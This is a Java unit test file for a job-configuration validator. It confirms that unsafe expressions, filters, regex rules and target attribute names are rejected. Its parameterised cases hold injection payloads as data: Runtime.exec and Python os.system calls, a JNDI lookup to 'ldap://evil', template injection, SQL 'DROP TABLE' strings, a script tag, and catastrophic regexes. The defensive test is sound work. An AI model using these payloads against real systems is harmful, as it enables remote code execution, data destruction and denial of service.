package io.sfinbound.transform.job;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;

import io.sfinbound.common.job.ConnectorFilter;
import io.sfinbound.common.job.DataType;
import io.sfinbound.common.job.DefaultMapping;
import io.sfinbound.common.job.FieldMapping;
import io.sfinbound.common.job.JobConfig;
import io.sfinbound.common.job.RedactionSettings;
import io.sfinbound.common.job.Transformation;
import io.sfinbound.common.job.TransformationType;
import io.sfinbound.common.problem.Problem;
import io.sfinbound.common.record.AttributeType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Save-time checks with the transformer's compiler: expressions, filters, rule files, fields, names, sizes. */
class JobSaveChecksTest {

    static final List<String> SELECT = List.of("Id", "Status", "ChatDuration", "Owner.Name", "CreatedDate");
    final JobSaveChecks checks = new JobSaveChecks();

    static JobConfig job(List<FieldMapping> mappings, RedactionSettings redaction, ConnectorFilter filter) {
        return new JobConfig(1, 1, 1, 1, "j", DataType.LIVE_CHAT, null, "62.0", "SELECT Id FROM X", "CreatedDate",
                false, null, null, null, null, null, DefaultMapping.defaults(), mappings, redaction, filter);
    }

    static FieldMapping mapping(String source, String target, Transformation t) {
        return new FieldMapping(source, target, AttributeType.TEXT, null, t);
    }

    static Transformation expression(String e) {
        return new Transformation(TransformationType.EXPRESSION, null, null, null, null, e);
    }

    List<Problem.FieldError> check(JobConfig job) {
        return checks.check(job, SELECT);
    }

    @Test
    void shouldAcceptAValidJob() {
        JobConfig job = job(List.of(
                        mapping("Status", "status", expression("IF(ChatDuration > 60, UPPER(Status), $value)")),
                        mapping("Owner.Name", "agent name", null)),
                new RedactionSettings("Acme : ACME", "ORD-\\d{6}", Set.of(), "***", List.of()),
                new ConnectorFilter("Status = 'Completed' AND NOT ISBLANK(Owner.Name)", ConnectorFilter.Mode.INCLUDE));
        assertThat(check(job)).isEmpty();
    }

    @Test
    void shouldNameTheExpressionFieldWithLineAndColumn() {
        JobConfig job = job(List.of(mapping("Status", "a", null), mapping("Status", "b", null),
                mapping("Status", "c", expression("UPPER(Status) &\n  UNKNOWNFN(1)"))), null, null);
        assertThat(check(job)).singleElement().satisfies(e -> {
            assertThat(e.field()).isEqualTo("fieldMappings[2].transformation.expression");
            assertThat(e.message()).contains("unknown function 'UNKNOWNFN'");
            assertThat(e.line()).isEqualTo(2);
            assertThat(e.column()).isEqualTo(3);
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"1 +", "java.lang.Runtime.getRuntime().exec('id')", "${jndi:ldap://evil/x}", "#{7*7}",
            "__import__('os').system('id')", "Status ==", "unknownFn(Status)", "Status.matches('(a+)+$')", "\u0000",
            "\ud800"})
    void shouldRejectHostileExpressions(String expression) {
        JobConfig job = job(List.of(mapping("Status", "status", expression(expression))), null, null);
        assertThat(check(job)).extracting(Problem.FieldError::field)
                .containsExactly("fieldMappings[0].transformation.expression");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Status ==", "'; DROP TABLE x", "(a+)+$ ~~ Status", "${jndi:ldap://x}", "",
            "LEN(Status)", "status = 'x'"})
    void shouldRejectBadFilters(String expression) {
        JobConfig job = job(List.of(), null, new ConnectorFilter(expression, ConnectorFilter.Mode.INCLUDE));
        assertThat(check(job)).extracting(Problem.FieldError::field).containsExactly("filter.expression");
    }

    @Test
    void shouldSuggestTheRightCaseOfAFieldInAnExpression() {
        JobConfig job = job(List.of(), null, new ConnectorFilter("status = 'x'", ConnectorFilter.Mode.INCLUDE));
        assertThat(check(job).get(0).message()).contains("did you mean 'Status'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"(a+)+$", "(a|aa)+$", "(.*a){20}", "([a-zA-Z]+)*$", "(x+x+)+y", "^(\\w+\\s?)*$"})
    void shouldRejectCatastrophicRedactionRulesWithTheirLine(String regex) {
        JobConfig job = job(List.of(), new RedactionSettings(null, "# comment\nORD-\\d{6}\n" + regex, Set.of(), null,
                List.of()), null);
        assertThat(check(job)).singleElement().satisfies(e -> {
            assertThat(e.field()).isEqualTo("redaction.redactionRules");
            assertThat(e.line()).isEqualTo(3);
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"(a+)+$", "(a|aa)+$", "(.*a){20}", "([a-zA-Z]+)*$", "(x+x+)+y", "^(\\w+\\s?)*$"})
    void shouldRejectCatastrophicRegexTransformations(String regex) {
        Transformation t = new Transformation(TransformationType.REGEX, null, null, regex, "x", null);
        JobConfig job = job(List.of(mapping("Status", "status", t)), null, null);
        assertThat(check(job)).extracting(Problem.FieldError::field)
                .containsExactly("fieldMappings[0].transformation.regex");
    }

    @Test
    void shouldRejectABadSubstitutionLine() {
        JobConfig job = job(List.of(), new RedactionSettings("ok : fine\n\"unclosed : x", null, Set.of(), null,
                List.of()), null);
        assertThat(check(job)).singleElement().satisfies(e -> {
            assertThat(e.field()).isEqualTo("redaction.substitutionRules");
            assertThat(e.line()).isEqualTo(2);
        });
    }

    @Test
    void shouldLimitSizes() {
        String big = "x : y\n".repeat(JobSaveChecks.MAX_RULE_FILE / 6 + 1);
        JobConfig job = job(List.of(mapping("Status", "status", expression("1 + ".repeat(3000) + "1"))),
                new RedactionSettings(big, big, Set.of(), "M".repeat(1024 * 1024), List.of()), null);
        assertThat(check(job)).extracting(Problem.FieldError::field).containsExactlyInAnyOrder(
                "redaction.substitutionRules", "redaction.redactionRules", "redaction.mask",
                "fieldMappings[0].transformation.expression");
    }

    @Test
    void shouldCheckSourceFieldsAgainstTheSelectListCaseSensitively() {
        JobConfig job = job(List.of(mapping("status", "a", null), mapping("Nope__c", "b", null),
                mapping("owner.name", "c", null), new FieldMapping(null, "d", AttributeType.TEXT, "fixed", null)),
                null, null);
        List<Problem.FieldError> errors = check(job);
        assertThat(errors).extracting(Problem.FieldError::field).containsExactly("fieldMappings[0].sourceField",
                "fieldMappings[1].sourceField", "fieldMappings[2].sourceField");
        assertThat(errors.get(0).message()).contains("did you mean 'Status'");
        assertThat(errors.get(1).message()).contains("not in the SOQL select list");
        assertThat(errors.get(2).message()).contains("did you mean 'Owner.Name'");
        assertThat(checks.check(job, null)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x'; DROP TABLE documents; --", "a\"b", "a;b", "tab\there", "<script>", "a  b", " a",
            "1abc"})
    void shouldRejectUnsafeTargetAttributes(String target) {
        JobConfig job = job(List.of(mapping("Status", target, null)), null, null);
        assertThat(check(job)).extracting(Problem.FieldError::field)
                .containsExactly("fieldMappings[0].targetAttribute");
    }

    @ParameterizedTest
    @ValueSource(strings = {"status", "chat_duration", "Agent Name", "owner.name", "first-response", "Größe", "_x1"})
    void shouldAcceptSafeTargetAttributes(String target) {
        assertThat(JobSaveChecks.targetAttributeProblem(target)).isEmpty();
    }
}
